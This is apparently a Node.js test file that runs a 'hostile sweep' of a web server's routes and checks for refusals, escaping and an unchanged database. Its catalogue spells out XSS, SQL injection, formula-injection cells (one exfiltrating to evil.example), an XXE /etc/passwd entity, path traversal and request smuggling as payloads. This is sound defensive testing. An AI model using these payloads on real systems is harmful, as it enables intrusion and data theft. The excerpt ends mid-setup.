// The hostile sweep (issue 13 §2): every route of the table, read from the
// binary at run time (`jiebang routes`: method, pattern, flags, body kinds
// and cap, the bind table's fields), gets a catalogue of more than 100
// hostile inputs, as anonymous, as each demo role and as another tenant's
// admin. A route added to src/web/routes.c is in the sweep the day it is
// added.
//
// What must hold, for every request:
//   - never a 5xx, never a hang (each request has a deadline), never a
//     dropped connection;
//   - a request that could change something (any method but GET/HEAD) and
//     every request whose path carries a hostile parameter is a 4xx with a
//     message (the JSON error's message, or an HTML page); the one allowed
//     exception is the sign-in redirect (303 to /login) of a page GET by
//     someone not signed in, which is how pages refuse anonymous readers;
//   - a GET of a route without path parameters, with hostile query, headers
//     or body, may be answered 2xx/3xx (a search for "<script>" finds
//     nothing and says so), but never 5xx;
//   - no HTML answer carries one of the catalogue's script payloads
//     unescaped (what a page echoes back, an input kept beside its error,
//     is escaped);
//   - afterwards the server answers /healthz, and the row count of every
//     table, and the contents of all but a few named ones, are as before.
//
// Every request is made invalid on purpose, so that nothing may change:
// which way is recorded per request (`why`), and a request that the
// catalogue cannot prove invalid by its own content is sent with a wrong
// CSRF token (a session) or a foreign Origin (anyone else) instead, so that
// it is refused before the handler. The ways, in the order tried:
//   path      a hostile path parameter (no such object: 0, -1, 2^63, "abc",
//             "1;DROP", an id of another tenant's object...);
//   malformed the server refuses the request before routing (a JSON body
//             that is not one object or has repeated members, invalid UTF-8,
//             NUL bytes, a body over the route's cap, a body where the route
//             reads none, a control character in the target...);
//   bind      the body goes through the route's bind table with at least one
//             field certain to be refused (a text over its maximum, an int
//             out of range, a date that does not exist, an unknown choice, a
//             list too long, a required field missing), while the other
//             fields carry the payload (script in every text field, SQL and
//             LIKE metacharacters, formula cells...);
//   csrf      the session sends no token, another session's token, a forged
//             or huge one, or a foreign Origin;
//   login     anonymous on a route that needs a session, or a session of
//             another tenant (anonymous here);
//   password  a log-in with a password that is never right.
// Routes that take no input at all (log out, mark all read...) can only be
// refused by csrf/login: the sweep sends them everything else that way.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import net from 'node:net';
import { existsSync, writeFileSync, rmSync } from 'node:fs';
import { startServer, run } from './harness.mjs';
import { login, api, openSql } from './accounts.mjs';

const CONCURRENCY = +(process.env.JIEBANG_HOSTILE_CONCURRENCY || 8);
const DEADLINE_MS = 20000;
const ROLE_LOGINS = { admin: 'admin', unit: 'unit', cadre: 'cadre', evaluator: 'evaluator', leader: 'leader' };
const T2 = '/t/other';
const ONLY = process.env.JIEBANG_HOSTILE_ONLY;

// ---- the route table, from the binary ----
function readRoutes() {
  const r = run(['routes']);
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.trim().split('\n').map((line) => {
    const [method, pattern, doc, ...rest] = line.split(' ');
    const meta = JSON.parse(rest.join(' '));
    return { method, pattern, doc: doc === 'doc', ...meta, params: [...pattern.matchAll(/:(\w+)/g)].map((m) => m[1]),
      api: pattern.startsWith('/api/'), unsafe: method !== 'GET' && method !== 'HEAD' };
  });
}

// ---- payloads ----
const XSS = ['<script>alert("jbx1")</script>', '"><img src=x onerror=alert("jbx2")>', "'><svg onload=alert('jbx3')>",
  '</textarea><script>alert("jbx4")</script>', 'javascript:alert("jbx5")//<iframe src=javascript:alert("jbx6")>'];
// What must never appear unescaped in an HTML answer (javascript: inside an
// escaped attribute value is harmless text; these are tags).
const XSS_MARKERS = ['<script>alert("jbx1")', '<img src=x onerror=alert("jbx2")>', "<svg onload=alert('jbx3')>",
  '<script>alert("jbx4")', '<iframe src=javascript:alert("jbx6")>'];
const SQLI = ["' OR '1'='1' --", '1; DROP TABLE app_user; --', "'); DELETE FROM problem; --", "\\' UNION SELECT password_hash FROM app_user --",
  "1' AND sleep(5) --", '"; SELECT pg_sleep(5); --'];
const LIKE = ['%', '_', '%%', '%_%', '\\%', '[a-z]%', '%\\_%\'"'];
const FORMULA = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", '-2+3+cmd|\'/C calc\'!A0', '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1', '\r=1+1'];
const UNICODE = ['\u202e翻转文本', 'zero\u200bwidth\u200d\ufeff', '😀'.repeat(50), 'e\u0301\u0301\u0301\u0301', '\u2028\u2029换行',
  '\ufffd\ufffe\uffff'];
const ID_VALUES = ['0', '-1', '9223372036854775807', '9223372036854775808', '-9223372036854775809', '99999999999999999999',
  '987654321.0', '0x3ADE68B1', '+987654321', '0987654321', ' 987654321', '987654321abc', 'abc', '1;DROP TABLE app_user',
  "1' OR '1'='1", '%', '_', '\u0000987654321', '..', '<script>alert("jbx1")</script>', '9'.repeat(4000), '\u0661\u0662\u0663', '[1]'];
const INT_VALUES = ['9223372036854775808', '-9223372036854775809', '1e309', '-1e309', '1.5', 'NaN', 'Infinity', '0x10', '12abc', ''];

// A value certain to be refused by the binder for field f, or undefined.
function badValue(f, json) {
  switch (f.type) {
    case 'text': return f.max > 0 && f.max < 60000 ? 'x'.repeat(f.max + 1) : undefined;
    case 'int': return json ? 9223372036854775807n : '9223372036854775808';
    case 'decimal': return 'NaN';
    case 'id': return json ? -1 : '-1';
    case 'date': return '2026-02-30';
    case 'choice': return 'no-such-choice';
    case 'bool': return 'maybe';
    case 'ids': return json ? ['x'] : 'x';
    case 'list': return json ? 'not a list' : undefined;
    default: return undefined;
  }
}

// A payload value of field f under `mode`; the string forms for forms.
function payload(f, mode, i, json) {
  const text = (list) => list[i % list.length];
  const isText = f.type === 'text';
  switch (mode) {
    case 'xss': return isText ? text(XSS) : f.type === 'choice' ? text(XSS) : undefined;
    case 'sql': return isText || f.type === 'choice' ? text(SQLI) : f.type === 'int' || f.type === 'id' ? text(SQLI) : undefined;
    case 'like': return isText ? text(LIKE) : undefined;
    case 'formula': return isText ? text(FORMULA) : undefined;
    case 'unicode': return isText ? text(UNICODE) : undefined;
    case 'long': return isText ? XSS[0] + 'x'.repeat(Math.min(70000, Math.max(0, (f.max || 100) + 1))) : undefined;
    case 'int': return ['int', 'id', 'decimal', 'date'].includes(f.type) ? (json && i % 2 ? Number(text(INT_VALUES)) : text(INT_VALUES)) : undefined;
    case 'negative': return ['int', 'id', 'decimal'].includes(f.type) ? (json ? -9223372036854775808n : '-9223372036854775808') : undefined;
    case 'date': return f.type === 'date' ? text(['2026-02-30', '0000-00-00', '9999-12-32', '2026-13-01', '1999-12-31', '2026-1-1', '２０２６-０１-０１']) : undefined;
    case 'wrongtype': return json ? (isText ? 12345 : f.type === 'list' || f.type === 'ids' ? { a: 1 } : 'abc') : undefined;
    case 'array': return json ? (f.type === 'list' || f.type === 'ids' ? undefined : [XSS[0], XSS[1]]) : undefined;
    case 'object': return json ? { $gt: '', $where: '1' } : undefined;
    case 'null': return json ? null : undefined;
    case 'bool': return json ? true : undefined;
    case 'float': return json ? 1e308 : undefined;
    case 'biglist': return f.type === 'list' ? (json ? Array.from({ length: (f.max || 10) + 1 }, () => ({})) : undefined)
      : f.type === 'ids' ? (json ? Array.from({ length: Math.min((f.max || 10) + 1, 3000) }, (_, k) => k + 987654321) : undefined) : undefined;
    case 'badids': return f.type === 'ids' ? (json ? [-1, 0, '9223372036854775808', null, 'x'] : '-1') : undefined;
    case 'badlist': return f.type === 'list' ? (json ? [1, 'x', null, [[]]] : undefined) : undefined;
    case 'choice': return f.type === 'choice' ? text(['NO-SUCH', (f.choices?.[0] || 'x').toUpperCase(), ` ${f.choices?.[0] || 'x'}`, `${f.choices?.[0] || 'x'}\u0000`]) : undefined;
    default: return undefined;
  }
}
const FIELD_MODES = ['xss', 'sql', 'like', 'formula', 'unicode', 'long', 'int', 'negative', 'date', 'wrongtype', 'array', 'object',
  'null', 'bool', 'float', 'biglist', 'badids', 'badlist', 'choice'];

// The body of a bind-table route under mode: { obj, bad } where bad says
// that some field is certain to be refused. For a form, list fields become
// "name.N.sub" pairs.
function fieldBody(route, mode, i, json) {
  const obj = {};
  let bad = false;
  const fill = (fields, prefix, target) => {
    for (const f of fields) {
      let v = payload(f, mode, i, json);
      if (f.type === 'list' && f.sub && v === undefined && !json) {
        // a form list: one item of hostile sub fields
        for (const s of f.sub) {
          const sv = payload(s, mode, i, false);
          if (sv !== undefined) target[`${prefix}${f.name}.0.${s.name}`] = sv;
        }
        continue;
      }
      if (f.type === 'list' && f.sub && v === undefined && json) {
        const item = {};
        fill(f.sub, '', item);
        target[prefix + f.name] = [item];
        continue;
      }
      if (v === undefined) continue;
      if (certainlyBad(f, v)) bad = true;
      target[prefix + f.name] = v;
    }
  };
  fill(route.fields, '', obj);
  if (!bad) {
    // poison: the first field with a value certain to be refused
    for (const f of route.fields) {
      const v = badValue(f, json);
      if (v === undefined) continue;
      obj[f.name] = v;
      bad = true;
      break;
    }
  }
  if (!bad && route.fields.some((f) => f.required && !(f.name in obj))) bad = true;
  return { obj, bad };
}

function certainlyBad(f, v) {
  const s = typeof v === 'string' ? v : null;
  switch (f.type) {
    case 'text': return (s !== null && f.max > 0 && [...s].length > f.max) || (v !== null && typeof v === 'object');
    case 'int': case 'id': case 'decimal':
      if (typeof v === 'bigint') return v > 9223372036854775807n - 1n || v < 1n && f.type === 'id' || v < BigInt(f.min ?? 0) || v > BigInt(f.max ?? 0);
      if (s !== null) return !/^-?\d+$/.test(s) || BigInt(s) > 9223372036854775806n || BigInt(s) < -9223372036854775807n || (f.type === 'id' && BigInt(s) < 1n)
        || (f.type === 'int' && (BigInt(s) < BigInt(f.min) || BigInt(s) > BigInt(f.max)));
      return typeof v === 'number' && (!Number.isInteger(v) || !Number.isSafeInteger(v) || (f.type === 'id' && v < 1)) || (v !== null && typeof v === 'object');
    case 'date': return s !== null && ['2026-02-30', '0000-00-00', '9999-12-32', '2026-13-01', '1999-12-31', '２０２６-０１-０１'].includes(s) || (v !== null && typeof v === 'object');
    case 'choice': return s !== null ? !(f.choices || []).includes(s) && s !== '' : v !== null;
    case 'bool': return s === 'maybe';
    case 'ids': return Array.isArray(v) ? v.length > f.max || v.some((x) => typeof x !== 'number' || x < 1) : s !== null && !/^\d+$/.test(s);
    case 'list': return Array.isArray(v) ? v.length > f.max || v.some((x) => x === null || typeof x !== 'object' || Array.isArray(x)) : v !== null;
    default: return false;
  }
}

const jsonText = (o) => JSON.stringify(o, (k, v) => (typeof v === 'bigint' ? `__big${v}__` : v)).replace(/"__big(-?\d+)__"/g, '$1');
// Percent-encoding of any string's UTF-8 bytes (a lone surrogate too).
const pct = (v) => [...Buffer.from(String(v), 'utf8')].map((b) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
function formText(obj) {
  const p = [];
  for (const [k, v] of Object.entries(obj)) {
    if (v === undefined || v === null) continue;
    if (Array.isArray(v)) for (const x of v) p.push(`${pct(k)}=${pct(x)}`);
    else p.push(`${pct(k)}=${pct(typeof v === 'object' ? '[object Object]' : v)}`);
  }
  return p.join('&');
}

// ---- multipart bodies ----
const BOUNDARY = '----jbHostileBoundary7MA4YWxkTrZu0gW';
function multipart(parts, { close = true, boundary = BOUNDARY } = {}) {
  const chunks = [];
  for (const p of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n` +
      (p.type ? `Content-Type: ${p.type}\r\n` : '') + '\r\n'));
    chunks.push(Buffer.isBuffer(p.data) ? p.data : Buffer.from(String(p.data)));
    chunks.push(Buffer.from('\r\n'));
  }
  if (close) chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}
const PNG_HEADER = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);
const HTML_FILE = Buffer.from('<html><script>alert("jbx1")</script></html>');
const ZIP_NOT_XLSX = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100, 0x41)]);
const FORMULA_CSV = Buffer.from('单位名称,单位类型\n=HYPERLINK("http://evil.example","x"),其他\n+cmd|\' /C calc\'!A0,其他\n@SUM(1),=1+1\n');

// ---- the catalogue ----
// Each input builds, for a route, { path, query, headers, body, ctype,
// csrf, origin, why, raw } where csrf is 'valid' | 'none' | 'other' |
// 'forged' | 'huge' | 'twice'. `why` is the reason the request is invalid
// by its own content ('malformed', 'bind', 'path'), or undefined.
function buildCatalogue() {
  const C = [];
  const add = (name, fn) => C.push({ name, fn });

  // 1. hostile path parameters (a query string for routes without any)
  ID_VALUES.forEach((v, k) => add(`id ${JSON.stringify(v).slice(0, 24)}`, (rt) => rt.params.length
    ? { id: v, why: /[\u0000]/.test(v) ? 'malformed' : 'path' }
    : { query: `id=${encodeURIComponent(v)}&page=${encodeURIComponent(v)}&batch=${encodeURIComponent(v)}&unit=${encodeURIComponent(v)}&year=${encodeURIComponent(v)}` }));
  add('another tenant\'s id', () => ({ id: 'OTHER' }));

  // 2. CSRF, origin, cookies and credentials
  add('csrf missing', () => ({ csrf: 'none' }));
  add('csrf of another session', () => ({ csrf: 'other' }));
  add('csrf of the same user\'s other session', () => ({ csrf: 'same-user' }));
  add('csrf forged', () => ({ csrf: 'forged' }));
  add('csrf huge', () => ({ csrf: 'huge' }));
  add('csrf with script', () => ({ csrf: 'script' }));
  add('csrf of another tenant', () => ({ csrf: 'tenant2' }));
  add('csrf right, origin foreign', () => ({ origin: 'http://evil.example' }));
  add('csrf right, origin null', () => ({ origin: 'null' }));
  add('csrf right, referer foreign', () => ({ headers: { Referer: 'http://evil.example/page' }, refused: 'origin' }));
  add('cookie forged', () => ({ cookie: 'jb_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', csrf: 'none' }));
  add('cookie huge', () => ({ cookie: `jb_session=${'A'.repeat(6000)}`, csrf: 'none' }));
  add('cookie twice', () => ({ cookie2: true, csrf: 'other' }));
  add('bearer forged', () => ({ headers: { Authorization: 'Bearer jbt_forgedforgedforgedforgedforged' }, nocookie: true }));
  add('authorization basic', () => ({ headers: { Authorization: 'Basic YWRtaW46amllYmFuZy1kZW1v' }, nocookie: true }));
  add('bearer with script', () => ({ headers: { Authorization: `Bearer ${XSS[0]}` }, nocookie: true }));

  // 3. bodies the server refuses before routing (or the route's binder refuses outright)
  const J = (name, body, why = 'malformed') => add(name, (rt) => ({ body: typeof body === 'function' ? body(rt) : body, ctype: 'application/json', why: rt.body.includes('json') ? why : undefined }));
  J('json: an array', '[{"a":1}]');
  J('json: a string', '"<script>alert(\\"jbx1\\")</script>"');
  J('json: null', 'null');
  J('json: a number', '9223372036854775808');
  J('json: truncated', '{"name":"abc","year":20');
  J('json: trailing garbage', '{} {"x":1}');
  J('json: duplicate keys', (rt) => `{"${rt.fields[0]?.name || 'name'}":"a","${rt.fields[0]?.name || 'name'}":"b"}`);
  J('json: duplicate csrf', '{"csrf":"x","csrf":"y"}');
  J('json: deep arrays', '['.repeat(20000) + ']'.repeat(20000));
  J('json: deep objects', '{"a":'.repeat(5000) + '1' + '}'.repeat(5000));
  J('json: invalid UTF-8', Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe, 0xc0, 0xae]), Buffer.from('"}')]));
  J('json: overlong UTF-8', Buffer.concat([Buffer.from('{"title":"'), Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]), Buffer.from('script"}')]));
  J('json: NUL in a string', '{"name":"a\\u0000b","title":"x\\u0000"}');
  J('json: raw NUL', Buffer.from('{"name":"a\0b"}'));
  J('json: lone surrogate', '{"name":"\\ud800","title":"\\udfff"}');
  J('json: BOM', '\ufeff{}');
  J('json: comments', '{/* x */"a":1}');
  J('json: single quotes', "{'a':1}");
  J('json: NaN', '{"a":NaN,"year":Infinity}');
  J('json: over the cap', (rt) => `{"pad":"${'x'.repeat((rt.cap || 1048576) + 10)}"}`);
    add('json: lying content type', (rt) => ({ body: '{"a":1}', ctype: 'text/plain' }));
  add('json: charset bogus', (rt) => ({ body: '{}', ctype: 'application/json; charset=ebcdic' }));
  const F = (name, body, why = 'malformed') => add(name, (rt) => ({ body: typeof body === 'function' ? body(rt) : body, ctype: 'application/x-www-form-urlencoded', why: rt.body.includes('form') ? why : undefined }));
  F('form: invalid UTF-8', 'title=%FF%FE&name=%C0%AE');
  F('form: raw invalid UTF-8', Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x3d, 0xff, 0xfe]));
  F('form: overlong slash', 'name=%C0%AF..%C0%AFetc%C0%AFpasswd');
  F('form: too many pairs', () => Array.from({ length: 1100 }, (_, k) => `a${k}=1`).join('&'));
  F('form: over the cap', (rt) => `pad=${'x'.repeat((rt.cap || 1048576) + 10)}`);
  // A form with NUL bytes, bad escapes and repeated csrf: not refused by
  // the parser itself, so only the other ways make it invalid.
  add('form: NUL bytes', () => ({ body: 'name=a%00b&title=%00&body=x%00y', ctype: 'application/x-www-form-urlencoded' }));
  add('form: bad escapes', () => ({ body: 'name=%G1%&title=%%%&body=%u0041', ctype: 'application/x-www-form-urlencoded' }));
  add('form: csrf twice', () => ({ body: 'csrf=x&csrf=y', ctype: 'application/x-www-form-urlencoded', csrf: 'in-body-twice' }));
  add('form: keys only', () => ({ body: '&&&=&==&name&title=', ctype: 'application/x-www-form-urlencoded' }));
  add('body: where none is read', (rt) => ({ body: 'x'.repeat(64), ctype: 'text/plain', why: rt.body.includes('none') ? 'malformed' : undefined }));
  add('body: unknown media type', () => ({ body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', ctype: 'application/xml' }));

  // 4. multipart: oversize, truncated, lying file types, formula cells
  const M = (name, fn) => add(name, (rt) => {
    const o = fn(rt);
    return { ctype: o.ctype || `multipart/form-data; boundary=${BOUNDARY}`, body: o.body, why: rt.body.includes('multipart') ? o.why : undefined };
  });
  M('multipart: truncated', () => ({ body: multipart([{ name: 'text', data: XSS[0] }, { name: 'file', filename: 'a.pdf', type: 'application/pdf', data: '%PDF-1.4 ' }], { close: false }), why: 'malformed' }));
  M('multipart: no boundary', () => ({ ctype: 'multipart/form-data', body: multipart([{ name: 'text', data: 'x' }]), why: 'malformed' }));
  M('multipart: wrong boundary', () => ({ ctype: 'multipart/form-data; boundary=other', body: multipart([{ name: 'text', data: 'x' }]), why: 'malformed' }));
  M('multipart: fields over the cap', (rt) => ({ body: multipart([{ name: 'text', data: 'x'.repeat((rt.cap || 65536) + 100) }]), why: 'malformed' }));
  M('multipart: headers garbage', () => ({ body: Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name=\r\n\u0000\u0001\r\n\r\nx\r\n--${BOUNDARY}--\r\n`), why: 'malformed' }));
  M('multipart: PNG named pdf', () => ({ body: multipart([{ name: 'file', filename: 'report.pdf', type: 'application/pdf', data: PNG_HEADER }]) }));
  M('multipart: ELF named png', () => ({ body: multipart([{ name: 'file', filename: 'photo.png', type: 'image/png', data: ELF }]) }));
  M('multipart: HTML named jpg', () => ({ body: multipart([{ name: 'file', filename: '<script>alert("jbx1")</script>.jpg', type: 'image/jpeg', data: HTML_FILE }]) }));
  M('multipart: zip named xlsx', () => ({ body: multipart([{ name: 'kind', data: 'units' }, { name: 'file', filename: 'units.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', data: ZIP_NOT_XLSX }]) }));
  M('multipart: formula cells', () => ({ body: multipart([{ name: 'kind', data: 'units' }, { name: 'file', filename: 'units.csv', type: 'text/csv', data: FORMULA_CSV }]) }));
  M('multipart: path traversal name', () => ({ body: multipart([{ name: 'file', filename: '../../../../etc/passwd', type: 'text/plain', data: 'root:x:0:0' }]) }));
  M('multipart: many parts', () => ({ body: multipart(Array.from({ length: 300 }, (_, k) => ({ name: `f${k}`, filename: `${k}.txt`, type: 'text/plain', data: 'x' }))) }));

  // 5. the route's own fields, every payload in turn (bind table)
  // In the encoding the route reads (JSON where it reads both); a route
  // that reads neither gets JSON and forms in turn.
  FIELD_MODES.forEach((mode, m) => add(`fields ${mode}`, (rt) => {
    const enc = rt.body.includes('json') ? 'json' : rt.body.includes('form') ? 'form' : m % 2 ? 'form' : 'json';
    if (!rt.fields.length) {
      // no bind table known: generic fields, proven invalid by nothing
      const obj = { title: XSS[m % XSS.length], name: SQLI[m % SQLI.length], body: LIKE[m % LIKE.length], text: FORMULA[m % FORMULA.length],
        description: UNICODE[m % UNICODE.length], reason: XSS[(m + 1) % XSS.length], q: LIKE[0], id: '-1' };
      return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json' } : { body: formText(obj), ctype: 'application/x-www-form-urlencoded' };
    }
    const { obj, bad } = fieldBody(rt, mode, m, enc === 'json');
    const reads = rt.body.includes(enc);
    return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json', why: bad && reads ? 'bind' : undefined }
      : { body: formText(obj), ctype: 'application/x-www-form-urlencoded', why: bad && reads ? 'bind' : undefined };
  }));

  // 6. the request line and headers
  add('query: script and SQL', () => ({ query: `q=${encodeURIComponent(XSS[0])}&state=${encodeURIComponent(SQLI[0])}&sort=${encodeURIComponent('id;DROP TABLE x')}&next=${encodeURIComponent('//evil.example/')}` }));
  add('query: LIKE metacharacters', () => ({ query: `q=${encodeURIComponent('%_%\\')}&category=${encodeURIComponent('%')}&unit=_` }));
  add('query: repeated', () => ({ query: Array.from({ length: 200 }, () => 'q=x&page=1').join('&') }));
  add('query: invalid UTF-8', (rt) => ({ query: 'q=%FF%FE&page=%C0%AE', why: 'malformed' }));
  add('query: NUL', () => ({ query: 'q=a%00b&page=1%00' }));
  // more pairs than the connection's memory pool could list (1100 hung the
  // server until its head timeout, libmicrohttpd 0.9.75, before server.c
  // stopped it splitting queries)
  add('query: 1500 pairs', () => ({ query: Array.from({ length: 1500 }, (_, k) => `a${k}=1`).join('&'), why: 'malformed' }));
  add('query: over 4 KiB', () => ({ query: `q=${'x'.repeat(5000)}`, why: 'malformed' }));
  add('query: huge page', () => ({ query: 'page=99999999999999999999&per_page=9223372036854775808&limit=-1&offset=-9223372036854775809&as_of=9999-99-99' }));
  add('path: invalid UTF-8 segment', () => ({ pathSuffix: '/%FF%FE', why: 'malformed' }));
  add('path: encoded NUL', () => ({ pathSuffix: '%00', why: 'malformed' }));
  add('path: dot segments', () => ({ pathPrefix: '/static/../..', why: 'path' }));
  add('header: huge', () => ({ headers: { 'X-Pad': 'p'.repeat(7000) } }));
  add('header: accept odd', () => ({ headers: { Accept: 'application/json;q=0, text/html;q=0, */*;q=0', 'Accept-Language': XSS[0], 'User-Agent': XSS[1] } }));
  add('header: forwarded lies', () => ({ headers: { 'X-Forwarded-For': '1.2.3.4, <script>', 'X-Forwarded-Host': 'evil.example', 'X-Real-IP': "' OR 1=1" } }));
  add('method override', () => ({ headers: { 'X-HTTP-Method-Override': 'DELETE', 'X-Method-Override': 'PUT' } }));
  add('raw: control byte in target', () => ({ rawTarget: '\u0001', why: 'malformed' }));
  add('raw: Content-Length and chunked', () => ({ rawSmuggle: true, why: 'malformed' }));
  add('raw: Content-Length twice', () => ({ rawDoubleLength: true, why: 'malformed' }));
  return C;
}

// A route that reads no body gets a body input's content as its query
// string instead (its filters are what it reads), except the few inputs
// that test a body sent where none is read.
const BODY_WHERE_NONE = new Set(['body: where none is read', 'json: over the cap', 'multipart: truncated', 'form: over the cap']);
function asQuery(rt, inp, o) {
  if (!rt.body.includes('none') || o.body === undefined || BODY_WHERE_NONE.has(inp.name)) return o;
  const bytes = Buffer.isBuffer(o.body) ? o.body : Buffer.from(o.body);
  let query;
  if (/urlencoded/.test(o.ctype)) query = bytes.toString('latin1');
  else if (/json/.test(o.ctype)) {
    let v;
    try { v = JSON.parse(bytes.toString('utf8')); } catch { v = undefined; }
    query = v && typeof v === 'object' && !Array.isArray(v) ? formText(v) : `q=${[...bytes].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`;
  } else query = `q=${[...bytes.subarray(0, 600)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`;
  const { body, ctype, ...rest } = o;
  return { ...rest, query, why: Buffer.byteLength(query) > 4096 ? 'malformed' : undefined };
}

// ---- sending ----
const agent = new http.Agent({ keepAlive: true, maxSockets: CONCURRENCY });

// A request whose body the server refuses before reading it (over the
// cap, or where none is read) is answered at once and the connection
// closed; a client still writing the body may then see a reset instead of
// the answer. Such a request is sent again with Expect: 100-continue, the
// standard way to learn the answer before the body is sent.
async function send(srv, q) {
  const a = await send1(srv, q, false);
  if (a.error && q.body !== undefined && a.error !== 'hang') {
    retries++;
    return send1(srv, q, true);
  }
  return a;
}
let retries = 0;

function send1(srv, { method, path, headers, body }, expect) {
  return new Promise((resolve) => {
    const h = { ...headers, ...(body !== undefined ? { 'Content-Length': body.length } : {}), ...(expect ? { Expect: '100-continue', Connection: 'close' } : {}) };
    const req = http.request({ host: '127.0.0.1', port: srv.port, method, path, headers: h, agent: expect ? undefined : agent }, (res) => {
      const chunks = [];
      res.on('data', (d) => chunks.push(d));
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', (e) => resolve({ status: 0, error: `answer: ${e.message}` }));
    });
    req.setTimeout(DEADLINE_MS, () => { req.destroy(new Error('hang')); });
    req.on('error', (e) => resolve({ status: 0, error: e.message }));
    if (expect) req.on('continue', () => req.end(body));
    else if (body !== undefined) req.end(body); else req.end();
  });
}

// Raw bytes on a fresh connection; the status of the first answer.
function sendRaw(srv, bytes) {
  return new Promise((resolve) => {
    const s = net.connect(srv.port, '127.0.0.1');
    let out = '';
    const t = setTimeout(() => { s.destroy(); resolve({ status: 0, error: 'hang', text: out }); }, DEADLINE_MS);
    s.on('data', (d) => {
      out += d;
      const m = out.match(/^HTTP\/1\.[01] (\d{3})[^\r]*\r\n[\s\S]*?\r\n\r\n/);
      if (m) {
        const len = +(out.match(/\r\ncontent-length: (\d+)/i)?.[1] ?? -1);
        const bodyStart = m[0].length;
        if (len < 0 || Buffer.byteLength(out.slice(bodyStart)) >= len) { clearTimeout(t); s.destroy(); resolve({ status: +m[1], text: out.slice(bodyStart), headers: { 'content-type': out.match(/\r\ncontent-type: ([^\r]*)/i)?.[1] || '' } }); }
      }
    });
    s.on('close', () => { clearTimeout(t); resolve({ status: +(out.match(/^HTTP\/1\.[01] (\d{3})/)?.[1] || 0), text: out, error: out ? undefined : 'closed without an answer' }); });
    s.on('error', () => {});
    s.write(bytes);
  });
}

// ---- the store ----
// Tables whose contents change on a refused request, by design:
//   audit_event   refusals are audited ("denied" entries, summaries);
//   login_attempt failed log-ins are counted (throttle, domain/throttle.h);
//   rate_event    refusals and log-ins per address are rate-limited;
//   user_session  the sessions' last_seen moves as they make requests.
// Their row counts are still compared, except audit_event's, login_attempt's
// and rate_event's, which grow with every refusal (the count of sessions
// must not move: no request of the sweep may log anyone in or out).
const CONTENT_SKIP = new Set(['audit_event', 'login_attempt', 'rate_event', 'user_session']);
const COUNT_SKIP = new Set(['audit_event', 'login_attempt', 'rate_event']);
// id_seq's row for audit_event moves with the audit log; the others must not.
const CONTENT_WHERE = { id_seq: "name <> 'audit_event'" };

async function tables(conn, store) {
  const q = store.startsWith('sqlite:')
    ? "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
    : "SELECT tablename FROM pg_tables WHERE schemaname = current_schema() ORDER BY tablename";
  return (await conn.query(q)).trim().split('\n').filter(Boolean);
}

async function storeState(conn, store, names) {
  const counts = {}, contents = {};
  const c = (await conn.query(names.map((t) => `SELECT '${t}', count(*) FROM ${t}`).join(' UNION ALL '))).trim().split('\n');
  for (const line of c) { const [t, n] = line.split('|'); counts[t] = +n; }
  for (const t of names) {
    if (CONTENT_SKIP.has(t)) continue;
    // rows sorted here: ORDER BY 1, 2 is not a total order, and PostgreSQL
    // may return ties in another order each time
    contents[t] = (await conn.query(`SELECT * FROM ${t}${CONTENT_WHERE[t] ? ` WHERE ${CONTENT_WHERE[t]}` : ''}`)).split('\n').sort().join('\n');
  }
  return { counts, contents };
}

// ---- the sweep ----
let srv, conn, routes, catalogue, other, otherIds = {};
const sess = {};

// The campaign's clock set to noon in Asia/Shanghai today (util/clock.h):
// the stored lights of claims (domain/claim_light.c) change at midnight,
// and the sweep must not cross one.
const clockFile = `/tmp/jiebang-hostile-clock-${process.pid}`;
const now = Math.floor(Date.now() / 1000);
writeFileSync(clockFile, String(12 * 3600 - ((now + 8 * 3600) % 86400)));

before(async () => {
  // Log-ins: 6 here, but the many refused ones of the sweep must not lock
  // the address out of the rest. The slow and bulk queues are deepened so
  // that 8 requests at once never meet a 503 "busy", which is a correct
  // answer under load but not what is tested here.
  // The SQLite store on a memory file system where there is one, and no
  // waiting for the WAL flush on PostgreSQL: the sweep's refusals are
  // audited, one synchronous commit each, and what is tested here is the
  // answers, not durability (the crash tests do that).
  const tmp = process.env.TMPDIR;
  if (existsSync('/dev/shm')) process.env.TMPDIR = '/dev/shm';
  srv = await startServer({ env: { JIEBANG_LOGINS_PER_ADDR: '1000', JIEBANG_TASK_PERIOD: '0', JIEBANG_BULK_QUEUE: '256',
    JIEBANG_SLOW_QUEUE: '256', JIEBANG_CLOCK_FILE: clockFile }, pgOptions: '-c synchronous_commit=off' });
  if (tmp === undefined) delete process.env.TMPDIR; else process.env.TMPDIR = tmp;
  conn = openSql(srv.store);
  routes = readRoutes();
  // For working on the sweep: only the routes whose "METHOD PATTERN"
  // matches. The test then fails at the end, so that it never passes so.
